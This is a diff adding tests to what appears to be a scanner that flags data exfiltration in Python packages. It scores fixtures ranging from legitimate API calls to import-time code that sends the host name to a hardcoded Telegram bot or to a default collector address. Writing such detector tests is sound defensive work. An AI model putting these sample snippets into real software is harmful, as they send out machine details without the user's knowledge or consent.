@@ -313,3 +313,110 @@ test('a command of a raw address that takes the environment is malware', async (
 
   expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10 }]);
 });
+
+test('a bot that logs in at import with the token of its own environment is silent', async () => {
+  const file = wheel({
+    'pkg/bot.py': python('import os', 'import telebot', "bot = telebot.TeleBot(os.environ['TOKEN'])"),
+    'pkg/me.py': python(
+      'import os, requests',
+      "requests.get('https://api.telegram.org/bot' + os.environ['BOT_TOKEN'] + '/getMe')",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toEqual([]);
+});
+
+test('a bot whose token stands in the code takes the host name away', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import socket, telebot',
+      "bot = telebot.TeleBot('5000000001:AAEexampleexampleexampleexampleexample')",
+      'bot.send_message(1, socket.gethostname())',
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'import', line: 3 }]);
+});
+
+test('a host name for the address that the user configured is no malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, socket, requests',
+      "requests.post(os.environ['ALERT_URL'], json={'host': socket.gethostname()})",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'suspicious', score: 2 }]);
+});
+
+test('an address of the environment with a default in the code is the code’s', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, socket, requests',
+      "url = os.environ.get('ALERT_URL') or 'https://collector.metrics.invalid/a'",
+      "requests.post(url, json={'host': socket.gethostname()})",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
+
+test('a key for the service that it is named for weighs less than one for somebody else', async () => {
+  const file = (host: string) =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, requests',
+        `requests.get('https://${host}/v1', params={'appid': os.environ['WEATHERMAP_API_KEY']})`,
+      ),
+    });
+
+  expect(await inspect('exfiltration', file('api.weathermap.invalid'))).toMatchObject([{ score: 2 }]);
+  expect(await inspect('exfiltration', file('api.elsewhere.invalid'))).toMatchObject([{ score: 8 }]);
+});
+
+test('a random id that the program keeps in its cache goes with its statistics', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import json, uuid, urllib.request',
+      'from pathlib import Path',
+      "path = Path.home() / '.cache' / 'pkg' / 'id'",
+      'try:',
+      '    value = path.read_text()',
+      'except OSError:',
+      '    value = uuid.uuid4().hex',
+      '    path.write_text(value)',
+      "urllib.request.urlopen('https://stats.vendor.invalid/import', data=json.dumps({'id': value}).encode())",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'suspicious', score: 2 }]);
+});
+
+test('a reporter of exceptions that hooks in at import acts when there is one', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import socket, sys, requests',
+      'def report(kind, value, trace):',
+      "    requests.post('https://notify.vendor.invalid/', json={'error': str(value), 'host': socket.gethostname()})",
+      'sys.excepthook = report',
+    ),
+  });
+
+  const findings = await inspect('exfiltration', file);
+
+  expect(findings.every((f) => f.class !== 'malware' && f.context === 'call')).toBe(true);
+  expect(await inspect('patched-function', file)).toEqual([]);
+});
+
+test('a client that logs in with its entry of the keyring does not take the store', async () => {
+  const file = wheel({
+    'pkg/client.py': python(
+      'import keyring, requests',
+      'def login(user):',
+      "    word = keyring.get_password('pkg', user)",
+      "    return requests.post('https://api.vendor.invalid/login', data={'user': user, 'password': word})",
+    ),
+  });
+
+  expect((await inspect('exfiltration', file)).every((f) => f.score < 5)).toBe(true);
+});
